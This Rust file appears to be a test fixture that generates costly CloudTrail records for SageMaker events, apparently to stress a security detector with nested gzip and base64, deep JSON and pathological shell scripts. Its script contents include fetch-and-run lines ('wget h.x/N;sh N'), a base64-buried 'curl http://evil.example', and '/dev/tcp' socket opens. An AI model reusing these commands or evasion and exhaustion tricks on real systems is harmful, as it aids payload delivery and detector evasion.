//! Records that somebody makes dear: each as large as it may be for its point, by what it makes the stages do.

use std::fmt::Write as _;
use std::io::Write as _;

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use serde_json::{Value, json};

/// Bytes of a large record, about.
const LARGE: usize = 8 * 1024;

/// Each way to make a record dear, small ones and large ones.
pub fn costly_records() -> Vec<(String, Vec<u8>)> {
    let mut records: Vec<(String, Vec<u8>)> = Vec::new();
    let mut add = |name: &str, raw: String| records.push((name.to_owned(), raw.into_bytes()));
    let job = |parameters: Value| record("CreateTrainingJob", &parameters).to_string();
    let lifecycle = |text: &str| record("CreateNotebookInstanceLifecycleConfig", &script(text)).to_string();

    // What unfolds.
    let zeros = gzip(&vec![b'x'; 1 << 20]);
    let twice = gzip(format!("echo {} | base64 -d", gzip(&vec![b'#'; 200_000])).as_bytes());
    let urls: String = (0..4000).fold(String::new(), |mut all, number| {
        let _ = write!(all, "curl http://h{number}.example/{number};");
        all
    });
    add("gzip of one character", lifecycle(&format!("echo {}", &zeros[..zeros.len().min(65_000)])));
    add("a small gzip of one character", lifecycle(&format!("echo {}", gzip(&vec![b'#'; 100_000]))));
    add("gzip in gzip", lifecycle(&format!("echo {twice} | base64 -d | gunzip")));
    add(
        "gzip in place of base64",
        record("CreateStudioLifecycleConfig", &json!({"studioLifecycleConfigContent": twice})).to_string(),
    );
    add("gzip of addresses", lifecycle(&format!("echo {}", gzip(urls.as_bytes()))));
    add("many small gzips", lifecycle(&pieces(|_| gzip(&[b'a'; 3000])).join("\n")));
    let mut packed = "curl http://evil.example".repeat(40);
    for _ in 0..7 {
        packed = format!("echo {} | base64 -d", BASE64_STANDARD.encode(&packed));
    }
    add("base64 in base64", lifecycle(&packed));
    add(
        "many runs of base64",
        lifecycle(&pieces(|number| BASE64_STANDARD.encode(format!("command {number:08}"))).join(" ")),
    );
    add(
        "many scripts",
        job(
            json!({"x": pieces(|_| String::new()).iter().take(2000).map(|_| json!({"content": "aWQ="})).collect::<Vec<_>>()}),
        ),
    );

    // What is searched.
    for (name, piece) in [
        ("words like options", "--token="),
        ("openers of keys", "-----BEGIN PRIVATE KEY-----"),
        ("addresses", "http://"),
        ("users", "x@y."),
        ("colons", "a:b:"),
        ("quotes", "\\\"'"),
        ("braces", "{\"a\":"),
        ("escapes", "\\\\u0041"),
        ("equals", "password="),
        ("numbers", "1.2.3."),
    ] {
        let all = pieces(|number| format!("{piece}{number}"));
        add(&format!("{name} as words"), job(json!({"containerArguments": all})));
        add(&format!("{name} as one text"), job(json!({"hyperParameters": {"x": all.concat()}})));
        add(&format!("{name} in a script"), lifecycle(&all.join(" ")));
        add(&format!("{name} after an opener"), {
            let opener = ["-----BEGIN PRIVATE KEY-----".to_owned()];
            let words = [&opener, all.as_slice()].concat();
            job(json!({ "containerArguments": words }))
        });
    }

    // What a shell would do.
    for (name, text) in [
        ("variables that double", format!("a=xxxxxxxx;{}", "a=$a$a;".repeat(1000))),
        ("files that double", format!("echo x>a;{}", "cat a a>b;cat b b>a;".repeat(400))),
        ("substitutions in substitutions", format!("{}id{}", "$(".repeat(2000), ")".repeat(2000))),
        ("quotes that never close", "'\"$(`".repeat(1500)),
        ("here-documents", "cat <<A\n".repeat(1000)),
        ("braces", "{a,b}{a,b} ".repeat(700)),
        ("evaluations", "eval eval ".repeat(800)),
        ("pipes", "cat|".repeat(2000)),
        ("groups", "{ (".repeat(2500)),
        ("functions that call each other", format!("f() {{ f $1$1; }}; {}", "f x;".repeat(1500))),
        ("files with sources", pieces(|number| format!("wget h.x/{number};sh {number}")).join(";")),
        ("wildcards", "/???/*?*l ".repeat(700)),
        ("sockets", "exec 5<>/dev/tcp/h/1;".repeat(400)),
    ] {
        add(&format!("a script of {name}"), lifecycle(&text));
    }

    // What a shell hands on: one large text, and many commands that each do something with it.
    let large = "x".repeat(2 * LARGE);
    let many = |piece: &str| piece.repeat(2 * LARGE / piece.len());
    let numbered = |piece: &dyn Fn(usize) -> String| (0..LARGE / 4).map(piece).collect::<String>();
    for (name, text) in [
        ("groups with an input", format!("echo {large} | {}", many("{ "))),
        ("commands with an input", format!("echo {large} | {{ {} }}", many("a;"))),
        (
            "variables with a text",
            format!("echo {large} | read {}", numbered(&|number| format!("a{number} "))),
        ),
        ("files with a text", format!("echo {large} | tee {}", many("a "))),
        ("files of many addresses", format!("wget{}", numbered(&|number| format!(" h.x/{number}")))),
        (
            "many files and addresses",
            format!("curl{}", numbered(&|number| format!(" -o {number} h.x/{number}"))),
        ),
        ("letters as options", format!("curl -{large}")),
        ("arguments of a format", format!("printf {large}{}", many(" a"))),
        ("places of a format", format!("printf {}{}", many("%s"), many(" a"))),
        ("folders in folders", format!("{}{}", many("cd a;"), numbered(&|number| format!(">{number};")))),
        ("parts of a text", format!("x={large}\necho {}", many("${x:9999:1}"))),
        ("names in a text", format!("x={large}\necho {}", many("${!x}"))),
        ("words in a text", format!("x='{}'\necho {}", many("a "), many("$x "))),
        ("a file that runs often", format!("echo '{large}' > /tmp/a\n{}", many("/tmp/a\n"))),
        ("another name for a text", format!("alias a='{large}'\n{}", many("a\n"))),
        ("wrappers", many("sudo env nohup ")),
        ("wrappers with an input", format!("echo x | {}", many("xargs "))),
        ("evaluations of one text", many("eval ")),
        ("outputs in outputs", many("tee >(")),
        (
            "characters exchanged",
            format!("echo {large}{}", " | tr '\u{4e00}-\u{4e7f}\u{5e00}-\u{5e7f}' 'a-b'".repeat(24)),
        ),
        ("an address without end", format!("x=$(curl http://h/{large})\necho {}", many("$x "))),
    ] {
        add(&format!("a script of {name}"), lifecycle(&text));
    }

    // What is compared with each other.
    let member = |number: usize| format!("m{number:06}");
    let members: Value =
        pieces(member).into_iter().map(|name| (name, json!(1))).collect::<serde_json::Map<_, _>>().into();
    add("many parameters", job(members.clone()));
    add("many members", {
        let mut all = record("CreateTrainingJob", &Value::Null);
        all.as_object_mut().unwrap().extend(members.as_object().unwrap().clone());
        all.to_string()
    });
    add(
        "one parameter many times",
        job(json!({"q": 1})).replace("\"q\":1", &vec!["\"trainingJobName\":\"x\""; LARGE / 22].join(",")),
    );
    add("many texts", job(json!({"subnets": pieces(|number| number.to_string())})));
    add(
        "many tags",
        job(
            json!({"tags": pieces(|number| number.to_string()).iter().take(1500).map(|key| json!({"key": key, "value": ""})).collect::<Vec<_>>()}),
        ),
    );
    add("many empty lists", job(json!({"x": vec![json!([]); LARGE / 3]})));
    add("many resources", {
        let mut all = record("CreateTrainingJob", &Value::Null);
        all["resources"] = pieces(|number| format!("arn:aws:s3:::bucket/{number:040}"))
            .iter()
            .map(|arn| json!({"ARN": arn}))
            .collect();
        all.to_string()
    });
    let principals =
        json!({"Statement": {"Effect": "Allow", "Principal": {"AWS": pieces(|number| number.to_string())}}});
    add(
        "many principals",
        record("PutModelPackageGroupPolicy", &json!({"resourcePolicy": principals.to_string()})).to_string(),
    );
    let statements = vec![
        json!({"Effect": "Allow", "Principal": "*", "Condition": {"StringEquals": {"aws:PrincipalAccount": "1"}}});
        400
    ];
    add(
        "many statements",
        record(
            "PutModelPackageGroupPolicy",
            &json!({"resourcePolicy": json!({"Statement": statements}).to_string()}),
        )
        .to_string(),
    );

    // What is nested.
    for (name, open, close, depth) in [
        ("objects", "{\"a\":", "}", 110),
        ("lists", "[", "]", 110),
        ("objects in order", "{\"b\":1,\"a\":", "}", 110),
    ] {
        let one = format!("{}1{}", open.repeat(depth), close.repeat(depth));
        let count = LARGE / one.len();
        add(
            &format!("nested {name}"),
            job(json!({"x": "PLACE"})).replace("\"PLACE\"", &format!("[{}]", vec![one; count].join(","))),
        );
    }
    let mut text = json!({"password": "x"});
    for _ in 0..10 {
        text = json!({ "a": text.to_string() });
    }
    add("json in json", job(json!({"environment": {"x": text.to_string()}})));
    add("characters as escapes", job(json!({"x": "PLACE"})).replace("PLACE", &"\\u0041".repeat(LARGE / 6)));
    add("halves of characters", job(json!({"x": "PLACE"})).replace("PLACE", &"\\ud83d".repeat(LARGE / 6)));
    records
}

fn record(name: &str, parameters: &Value) -> Value {
    json!({
        "eventVersion": "1.11", "eventTime": "2026-11-01T12:00:00Z", "eventSource": "sagemaker.amazonaws.com",
        "eventName": name, "awsRegion": "eu-central-1", "recipientAccountId": "111122223333",
        "userIdentity": {"type": "IAMUser", "userName": "alice", "arn": "arn:aws:iam::111122223333:user/alice"},
        "requestParameters": parameters,
    })
}

fn gzip(bytes: &[u8]) -> String {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(bytes).unwrap();
    BASE64_STANDARD.encode(encoder.finish().unwrap())
}

/// Numbered pieces up to the size of a large record.
fn pieces(piece: impl Fn(usize) -> String) -> Vec<String> {
    let mut bytes = 0;
    let all = (0..).map(piece).take_while(|piece| {
        bytes += piece.len() + 3;
        bytes < LARGE
    });
    all.collect()
}

fn script(text: &str) -> Value {
    json!({"notebookInstanceLifecycleConfigName": "x", "onStart": [{"content": BASE64_STANDARD.encode(text)}]})
}
